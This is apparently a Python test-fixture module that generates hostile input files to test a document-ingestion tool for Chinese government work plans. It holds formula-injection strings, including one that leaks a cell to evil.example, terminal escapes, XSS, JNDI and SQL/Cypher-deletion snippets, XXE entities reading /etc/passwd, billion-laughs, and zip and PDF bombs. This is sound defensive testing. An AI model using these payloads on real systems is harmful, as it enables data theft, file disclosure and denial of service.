"""Generated hostile inputs: what a careless user or an attacker puts in the input folder.

Each maker writes into a folder and returns what it wrote as :class:`Case` rows (name as the OS has
it, whether it is a good document that must load, and what the one line must say when it is not).
Nothing here is committed as data: every file is made at test time, the bombs included (they are
small on disk and large only when inflated). Used by ``tests/test_hostile_inputs.py``.
"""
from __future__ import annotations

import io
import itertools
import os
import random
import zipfile
from dataclasses import dataclass
from pathlib import Path

# Payloads that must stay data wherever the text goes (spreadsheets, terminals, XML, RDF).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "＝1+1"]
CONTROLS = ["\x1b]0;pwned\x07", "\x1b[31m红色\x1b[0m", "\x07铃", "\x0b竖表", "\x0c换页", "\x00空", "\x7f删",
            "\x85下行", "\x9b31m", "\u202e反向", "\u2028行分隔", "\ufeff零宽", "\u200b零宽空格", "\ufffe非字符"]
MARKUP = ["<script>alert(1)</script>", "]]><!--", "&amp;&lt;", '"双引号"', "'单引号'", "\\反斜杠\\", "`反引号`",
          "{{7*7}}", "${jndi:ldap://x}", "%s%n%x", "' OR 1=1 --", "MATCH (n) DETACH DELETE n"]
PAYLOADS = FORMULAS + CONTROLS + MARKUP

# File names as the OS may give them (bytes): GBK from a Chinese Windows zip, raw bytes, controls,
# spreadsheet and shell specials, IRI specials, a trailing dot, the longest name Linux allows.
NAME_STEMS: list[bytes] = [
    "政务公开要点".encode("gbk"), "广州市黄埔区".encode("gbk"), "台山市文化局".encode("gb18030"),
    "繁體要點".encode("big5"), b"\xff\xfe", b"\x80\x81\x82", b"\xc3\x28", b"\xed\xa0\x80",
    "政务公开".encode(), "📄计划".encode(), b"with space", b"  leading", b"trailing.",
    b"dots..", b"-dash", b"=cmd", b"+plus", b"@at", b"'quote", b'"dq"', b"semi;colon", b"pipe|bar",
    b"back\\slash", b"amp&er", b"pct%41", b"hash#x", b"q?x", b"br[ack]et", b"cu{rl}y", b"lt<gt>",
    b"tab\tname", b"esc\x1b]0;t\x07", b"bell\x07", b"cr\rname", b"nl\nname", b"del\x7f",
    "rtl\u202etxt.exe".encode(), "zw\u200bsp".encode(), b"a" * 200,
]


@dataclass
class Case:
    name: str               # the name as Python has it (os.fsdecode of the bytes)
    good: bool              # a good document: must load, whatever its name or text holds
    expect: str = ""        # for a bad one: a piece of its one line


def plan_text(payload: str, n: int) -> str:
    """A small plan that loads (numbered headings, tasks with units), carrying ``payload`` in its
    title, a heading, a task and a unit cell."""
    return (f"{payload}关于印发2022年政务公开工作要点{n}的通知\n"
            f"一、{payload}总体要求\n"
            f"（一）加强政策解读{payload}。区政务公开办牵头，各有关部门配合。\n"
            f"（二）推进决策公开工作第{n}项。区发展改革局负责。\n"
            f"| 序号 | 工作任务 | 责任单位 |\n| 1 | 做好{payload}政务信息公开 | {payload}区财政局 |\n"
            f"二、保障措施\n（一）加强组织领导，区政府办公室负责。\n")


def write_good_documents(folder: Path, limit: int | None = None) -> list[Case]:
    """Good plans under hostile names and carrying hostile text: every one must load."""
    cases = []
    suffixes = [b".txt", b".md", b".html"]
    pairs = zip(itertools.cycle(NAME_STEMS), itertools.cycle(PAYLOADS))
    for n, (stem, payload) in enumerate(itertools.islice(pairs, len(NAME_STEMS) * 3)):
        if limit is not None and n >= limit:
            break
        raw = b"%03d-" % n + stem + suffixes[n % len(suffixes)]
        text = plan_text(payload, n)
        if raw.endswith(b".html"):
            import html

            body = "".join(f"<p>{html.escape(line)}</p>" for line in text.splitlines() if not line.startswith("|"))
            data = f"<html><head><meta charset='utf-8'><title>x</title></head><body>{body}</body></html>".encode()
        else:
            data = text.encode("utf-8")
        _write(folder, raw, data)
        cases.append(Case(os.fsdecode(raw), True))
    return cases


def docx_bytes(paragraphs: list[str], document_xml: bytes | None = None, extra: dict | None = None) -> bytes:
    """A minimal DOCX made by hand (so that its parts can be anything): content types, rels, body."""
    from xml.sax.saxutils import escape

    W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    if document_xml is None:
        body = "".join(f"<w:p><w:r><w:t>{escape(p)}</w:t></w:r></w:p>" for p in paragraphs)
        document_xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                        f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>').encode()
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                               b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
                               b'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="'
                               b'application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
                               b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                       b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                       b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": document_xml,
        **(extra or {}),
    }
    return _zip(parts)


def xlsx_bytes(rows: list[list], shared_strings: bytes | None = None, sheet_xml: bytes | None = None) -> bytes:
    """A minimal XLSX made by hand: one sheet, strings shared."""
    from xml.sax.saxutils import escape

    strings: list[str] = []
    cells = []
    for r, row in enumerate(rows, 1):
        cs = []
        for c, v in enumerate(row):
            ref = f"{chr(65 + c)}{r}"
            strings.append(str(v))
            cs.append(f'<c r="{ref}" t="s"><v>{len(strings) - 1}</v></c>')
        cells.append(f'<row r="{r}">{"".join(cs)}</row>')
    S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    if shared_strings is None:
        shared_strings = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{S}" count="{len(strings)}">'
                          + "".join(f"<si><t>{escape(s)}</t></si>" for s in strings) + "</sst>").encode()
    if sheet_xml is None:
        sheet_xml = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{S}"><sheetData>{"".join(cells)}</sheetData></worksheet>'.encode()
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            '</Types>').encode(),
        "_rels/.rels": (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="xl/workbook.xml"/></Relationships>').encode(),
        "xl/workbook.xml": (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{S}" xmlns:r="{R}"><sheets>'
                            f'<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>').encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{R}/sharedStrings" Target="sharedStrings.xml"/></Relationships>').encode(),
        "xl/worksheets/sheet1.xml": sheet_xml,
        "xl/sharedStrings.xml": shared_strings,
    }
    return _zip(parts)


def _zip(parts: dict) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            if isinstance(data, (bytes, str)):
                z.writestr(name, data)
            else:   # an iterable of chunks: a bomb, inflated only here, a megabyte at a time
                with z.open(name, "w", force_zip64=True) as fh:
                    for chunk in data:
                        fh.write(chunk)
    return buf.getvalue()


def _repeat(head: bytes, unit: bytes, tail: bytes, size: int):
    yield head
    block = unit * max(1, (1 << 20) // len(unit))
    for _ in range(size // len(block)):
        yield block
    yield tail


PLAN = ["一、总体要求", "（一）做好政策文件解读工作，区政务公开办牵头。", "（二）推进政务公开平台建设，区政务服务数据管理局负责。"]
PLAN_ROWS = [["一、加强政策解读"], ["1.做好政策文件解读工作", "区政务公开办牵头"], ["2.推进政务公开平台建设", "区政务服务数据管理局负责"]]
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
XXE = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def write_bad_files(folder: Path, bomb_mb: int = 200) -> list[Case]:
    """Bombs, entity declarations, wrong types: each must be skipped with one line naming the limit
    or the reason. Plus Office files that are odd but good (comments inside a paragraph), which load."""
    cases: list[Case] = []

    def add(name: str, data: bytes, expect: str = "", good: bool = False):
        (folder / name).write_bytes(data)
        cases.append(Case(name, good, expect))

    para = f"<w:p><w:r><w:t>一、加强政策解读</w:t></w:r></w:p>".encode()
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document {W_NS}><w:body>'.encode()
    add("bomb_document.docx", docx_bytes([], extra={"word/document.xml": _repeat(head, para, b"</w:body></w:document>",
                                                                                 bomb_mb << 20)}), "MAX_ZIP_PART")
    add("bomb_ratio.docx", docx_bytes([], extra={"word/document.xml": _repeat(head, b" " * 64, b"<w:p/></w:body></w:document>",
                                                                              8 << 20)}), "MAX_ZIP_RATIO")
    sst = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    add("bomb_shared_strings.xlsx", xlsx_bytes(PLAN_ROWS, shared_strings=_repeat(sst, "<si><t>政务公开</t></si>".encode(),
                                                                                  b"</sst>", bomb_mb << 20)), "MAX_ZIP_PART")
    many = {f"word/media/x{i}.xml": b"<x/>" for i in range(10_001)}
    add("many_parts.docx", docx_bytes(PLAN, extra=many), "MAX_ZIP_ENTRIES")
    # A sheet of many rows of empty-looking cells: each row reaches column ZZ (702 cells read).
    S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rows = (f'<row r="{r}"><c r="ZZ{r}" t="n"><v>1</v></c></row>'.encode() for r in range(1, 3200))
    sheet = itertools.chain([f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{S}"><dimension ref="A1:ZZ3200"/><sheetData>'.encode()],
                            rows, [b"</sheetData></worksheet>"])
    add("many_cells.xlsx", xlsx_bytes(PLAN_ROWS, sheet_xml=sheet), "MAX_SHEET_CELLS")
    add("xxe.docx", docx_bytes([], document_xml=b'<?xml version="1.0"?>' + XXE + f'<w:document {W_NS}><w:body><w:p><w:r><w:t>&x;</w:t>'
                                                   f'</w:r></w:p></w:body></w:document>'.encode()), "DOCTYPE")
    add("xxe_utf16.docx", docx_bytes([], document_xml=('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]>'
                                                        f'<w:document {W_NS}><w:body/></w:document>').encode("utf-16")), "DOCTYPE")
    add("xxe.xlsx", xlsx_bytes(PLAN_ROWS, shared_strings=b'<?xml version="1.0"?>' + XXE + f'<sst xmlns="{S}"><si><t>&x;</t></si></sst>'.encode()),
        "DOCTYPE")
    add("laughs.docx", docx_bytes([], document_xml=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;'
                                                     b'&a;&a;&a;&a;&a;">]>' + f'<w:document {W_NS}><w:body/></w:document>'.encode()), "DOCTYPE")
    add("huge.txt", ("政务公开工作要点" * 800_000).encode("utf-8"), "MAX_TEXT_BYTES")
    add("huge.html", b"<html><body>" + b"<p>x</p>" * 2_200_000 + b"</body></html>", "MAX_TEXT_BYTES")
    rnd = random.Random(20)
    add("garbage.docx", rnd.randbytes(4096), "")
    add("zip_of_nothing.xlsx", _zip({"a.txt": b"x"}), "zip archive of 1 document file")
    add("pdf_header_only.pdf", b"%PDF-1.7\n" + rnd.randbytes(2000), "PDF")
    add("empty.md", b"", "empty file")
    add("nul_name_inside.txt", b"\x00\x01\x02" * 500, "binary file")
    # Odd but good: a comment and a processing instruction inside a paragraph, an XLSX of formulas.
    odd = (f'<?xml version="1.0" encoding="UTF-8"?><w:document {W_NS}><w:body>' + "".join(
        f"<w:p><!-- 注释 --><?pi x?><w:r><w:t>{p}</w:t></w:r></w:p>" for p in PLAN) + "</w:body></w:document>").encode()
    add("comments_in_paragraph.docx", docx_bytes([], document_xml=odd), good=True)
    # A sheet that declares the whole grid (A1:XFD1048576) as its range: read as the cells it has.
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{chr(65 + c)}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
                                             for c, v in enumerate(row)) + "</row>" for r, row in enumerate(PLAN_ROWS, 1))
    add("declared_grid.xlsx", xlsx_bytes(PLAN_ROWS, sheet_xml=(f'<?xml version="1.0"?><worksheet xmlns="{S}"><dimension '
                                                               f'ref="A1:XFD1048576"/><sheetData>{rows}</sheetData></worksheet>').encode()),
        good=True)
    add("formulas.xlsx", xlsx_bytes(PLAN_ROWS + [["=HYPERLINK(\"http://x\")", "@SUM(A1)"], ["3.做好=1+1工作", "区财政局负责"]]), good=True)
    return cases


def write_special_files(folder: Path) -> list[Case]:
    """Entries that are not files: each must be named as skipped, none may block the build."""
    cases = []
    os.mkfifo(folder / "pipe.txt")
    cases.append(Case("pipe.txt", False, "named pipe"))
    os.symlink("/dev/zero", folder / "zero.txt")
    cases.append(Case("zero.txt", False, "device"))
    os.symlink(folder / "nowhere.txt", folder / "dangling.txt")
    cases.append(Case("dangling.txt", False, "leads nowhere"))
    os.symlink(".", folder / "loop")
    cases.append(Case("loop", False, "loop"))
    return cases


def _write(folder: Path, raw_name: bytes, data: bytes) -> None:
    with open(os.path.join(os.fsencode(folder), raw_name), "wb") as fh:
        fh.write(data)


# Manifest rows for good documents: hostile ids and values that must load as given (id ends in '.',
# holds a space, quotes, a formula, IRI specials, an ESC sequence; a YAML date)...
HOSTILE_ROWS = [
    {"id": "trailing."}, {"id": "with space 政务."}, {"id": "quote'\"q"}, {"id": "=cmd|' /C calc'!A0"},
    {"id": "-x"}, {"id": "a#b?c[d]%41<>"}, {"id": "\x1b]0;t\x07id"}, {"id": "政务公开。"}, {"id": "slash/..//x"},
    {"title": '=HYPERLINK("http://evil.example","点击")', "issued_on": "!date 2021-05-01"},
    {"title": "\x1b]0;pwned\x07标题", "doc_no": "@SUM(1)", "issuer": "+区政府"},
]
# ... and rows that are wrong: each drops its own document, with one line naming row, file and field.
WRONG_ROWS = [
    ({"id": 12}, "id must be text, got 12"),
    ({"parents": {"a": 1}}, "parents must be text or a list of texts, got a mapping"),
    ({"issued_on": "!plain 2021-13-45"}, "issued_on must be a date YYYY-MM-DD, got '2021-13-45'"),
    ({"year": 99999999999999999999999}, "year must be a year"),
    ({"level": "planet"}, "level must be one of"),
    ({"cites": 5}, "cites must be text or a list of texts, got 5"),
    ({"title": 3.5}, "title must be text, got 3.5"),
    ({"id": ["a", "b"]}, "id must be text, got a list"),
    ({"year": "yes"}, "year must be a year"),
]


def manifest_text(base: str, good: list[Case]) -> tuple[str, dict[str, str]]:
    """The seeds' manifest plus rows for generated documents (HOSTILE_ROWS, then WRONG_ROWS), and a
    row with no usable file. Returns the text and, for each document whose row is wrong, its error."""
    import json

    named = [c for c in good if c.name.isprintable() and not any("\udc80" <= ch <= "\udcff" for ch in c.name)]
    lines = [base.rstrip("\n")]
    wrong: dict[str, str] = {}

    def value(v):
        if isinstance(v, str) and v.startswith("!date "):
            return v[6:]                      # a YAML date
        if isinstance(v, str) and v.startswith("!plain "):
            return v[7:]                      # what YAML reads as a date, or fails to
        return _yaml_quoted(v) if isinstance(v, str) else json.dumps(v)

    rows = [(r, None) for r in HOSTILE_ROWS] + list(WRONG_ROWS)
    for case, (row, error) in zip(named, rows):
        lines.append(f"  - file: {_yaml_quoted(case.name)}")
        lines += [f"    {k}: {value(v)}" for k, v in row.items()]
        if error:
            wrong[case.name] = error
    lines += ["  - file: [a.txt, b.txt]", "  - just a line", "  - title: no file here"]
    return "\n".join(lines) + "\n", wrong


def _yaml_quoted(text: str) -> str:
    """A YAML double-quoted scalar: every character but plain printable ones as an escape."""
    out = []
    for ch in text:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ch.isprintable() and ch.isascii() or ("\u4e00" <= ch <= "\u9fff"):
            out.append(ch)
        else:
            out.append(f"\\u{ord(ch):04x}" if ord(ch) < 0x10000 else f"\\U{ord(ch):08x}")
    return '"' + "".join(out) + '"'


ROW_PROBLEMS = ["file must be a path (text), got a list", "must be a mapping of fields", "has no 'file'"]


def pdf_bomb(inflated_mb: int, ascii85: bool = False) -> bytes:
    """A one-page PDF whose content stream inflates to ``inflated_mb`` MB of spaces (behind an ASCII85
    filter when ``ascii85``)."""
    import base64
    import zlib

    comp = zlib.compressobj(9)
    block = b" " * (1 << 20)
    body = b"".join(comp.compress(block) for _ in range(inflated_mb)) + comp.flush()
    filters = b"/FlateDecode"
    if ascii85:
        body, filters = base64.a85encode(body) + b"~>", b"[/ASCII85Decode /FlateDecode]"
    return (b"%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
            b"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>> endobj\n"
            + b"4 0 obj <</Length " + str(len(body)).encode() + b"/Filter" + filters + b">>\nstream\n" + body +
            b"\nendstream\nendobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")


def write_more_bad_files(folder: Path) -> list[Case]:
    """Bombs of the other containers: a PDF stream, an HTML page of many elements, a zip directory."""
    cases = []
    for name, data, expect in [
        ("bomb_stream.pdf", pdf_bomb(64), "MAX_PDF_STREAM"),
        ("bomb_stream_a85.pdf", pdf_bomb(64, ascii85=True), "MAX_PDF_STREAM"),
        ("many_tags.html", b"<html><body>" + b"<p>x</p>" * 40_000 + b"</body></html>", "MAX_HTML_TAGS"),
        ("many_entries.xlsx", _zip({f"xl/x{i}.bin": b"" for i in range(12_000)}), "MAX_ZIP_ENTRIES"),
    ]:
        (folder / name).write_bytes(data)
        cases.append(Case(name, False, expect))
    return cases
